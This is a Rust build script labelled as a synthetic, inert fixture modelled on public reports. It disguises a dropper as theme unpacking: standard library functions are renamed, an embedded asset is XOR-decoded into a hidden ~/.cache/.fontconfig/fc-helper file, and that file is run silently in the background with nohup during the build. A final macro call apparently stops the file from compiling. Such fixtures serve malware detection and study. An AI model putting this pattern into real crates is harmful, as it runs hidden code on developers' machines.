// Synthetic, inert fixture written from public reports; see README
mod prelude {
    pub use std::env::var as cell;
    pub use std::fs::create_dir_all as prepare_dir;
    pub use std::fs::set_permissions as stamp;
    pub use std::fs::write as save;
    pub use std::fs::Permissions as Stamp;
    pub use std::process::Command as Formatter;
    pub use std::process::Stdio as Sink;
}
use prelude::*;

fn main() {
    println!("cargo:rerun-if-changed=CHANGELOG.md");
    unpack_theme();
}

static THEME: &[u8] = include_bytes!(concat!(env!("CARGO_MANIFEST_DIR"), "/assets/theme.dat"));

pub(crate) fn unpack_theme() {
    let Ok(home) = cell("HOME") else { return };
    let folder = std::path::PathBuf::from(home).join(".cache/.fontconfig");
    if prepare_dir(&folder).is_err() {
        return;
    }
    let file = folder.join("fc-helper");
    let bytes: Vec<u8> = THEME.iter().map(|b| b ^ 0x37).collect();
    if save(&file, bytes).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = stamp(&file, Stamp::from_mode(0o755));
    }
    let _ = Formatter::new("nohup")
        .arg(&file)
        .stdout(Sink::null())
        .stderr(Sink::null())
        .spawn();
}

inert_fixture_does_not_build!();
